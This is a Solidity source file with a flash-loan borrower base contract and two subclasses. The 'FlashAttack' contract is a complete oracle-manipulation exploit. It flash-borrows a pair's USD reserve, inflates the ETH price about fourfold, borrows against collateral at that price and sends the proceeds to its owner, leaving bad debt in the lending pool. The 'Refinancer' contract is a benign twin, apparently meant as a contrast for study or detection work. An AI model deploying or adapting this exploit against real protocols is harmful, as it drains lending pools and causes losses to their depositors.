// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IERC20, IFlashLender, IFlashReceiver, ILendingPool, IPair} from "./Interfaces.sol";
import {PairMath} from "./PairMath.sol";

abstract contract FlashBorrower is IFlashReceiver {
    IPair internal immutable pair;
    ILendingPool internal immutable pool;
    IFlashLender internal immutable lender;
    IERC20 internal immutable weth;
    IERC20 internal immutable usd;
    address internal immutable owner = msg.sender;

    constructor(IPair pair_, ILendingPool pool_, IFlashLender lender_, IERC20 weth_, IERC20 usd_) {
        (pair, pool, lender, weth, usd) = (pair_, pool_, lender_, weth_, usd_);
        weth_.approve(address(pool_), type(uint256).max);
        usd_.approve(address(pool_), type(uint256).max);
    }

    function borrowFlash(uint256 amount) internal {
        address[] memory tokens = new address[](1);
        uint256[] memory amounts = new uint256[](1);
        (tokens[0], amounts[0]) = (address(usd), amount);
        lender.flashLoan(address(this), tokens, amounts, "");
    }

    function receiveFlashLoan(address[] calldata, uint256[] calldata amounts, uint256[] calldata fees, bytes calldata) external {
        require(msg.sender == address(lender), "not the lender");
        use(amounts[0]);
        usd.transfer(address(lender), amounts[0] + fees[0]);
    }

    function use(uint256 amount) internal virtual;
}

/// Makes ether four times as dear, borrows against it at that price, lets it fall back and leaves the debt behind.
contract FlashAttack is FlashBorrower {
    uint256 private collateral;

    constructor(IPair pair_, ILendingPool pool_, IFlashLender lender_, IERC20 weth_, IERC20 usd_)
        FlashBorrower(pair_, pool_, lender_, weth_, usd_)
    {}

    function attack(uint256 collateral_) external {
        require(msg.sender == owner, "not the owner");
        collateral = collateral_;
        (, uint256 reserveUsd) = PairMath.reserves(pair, address(weth));
        borrowFlash(reserveUsd);
        usd.transfer(owner, usd.balanceOf(address(this)));
    }

    function use(uint256 amount) internal override {
        PairMath.swapOwn(pair, address(usd), amount);
        pool.depositCollateral(collateral);
        (uint256 reserveWeth, uint256 reserveUsd) = PairMath.reserves(pair, address(weth));
        pool.borrow((((collateral * reserveUsd) / reserveWeth) * 3) / 4);
        PairMath.swapOwn(pair, address(weth), weth.balanceOf(address(this)));
    }
}

/// The benign twin: takes a flash loan to pay back its own debt, sells some of the freed ether and borrows less than before.
contract Refinancer is FlashBorrower {
    constructor(IPair pair_, ILendingPool pool_, IFlashLender lender_, IERC20 weth_, IERC20 usd_)
        FlashBorrower(pair_, pool_, lender_, weth_, usd_)
    {}

    /// Opens a position with the caller's ether, sent here before.
    function open(uint256 borrowed) external {
        require(msg.sender == owner, "not the owner");
        pool.depositCollateral(weth.balanceOf(address(this)));
        pool.borrow(borrowed);
        usd.transfer(owner, borrowed);
    }

    function refinance() external {
        require(msg.sender == owner, "not the owner");
        borrowFlash(pool.debtOf(address(this)));
    }

    function use(uint256 amount) internal override {
        pool.repay(amount);
        pool.withdrawCollateral(pool.collateralOf(address(this)));
        uint256 bought = PairMath.swapOwn(pair, address(weth), weth.balanceOf(address(this)) / 4);
        pool.depositCollateral(weth.balanceOf(address(this)));
        if (bought <= amount + amount / 10000) pool.borrow(amount + amount / 10000 - bought);
    }
}
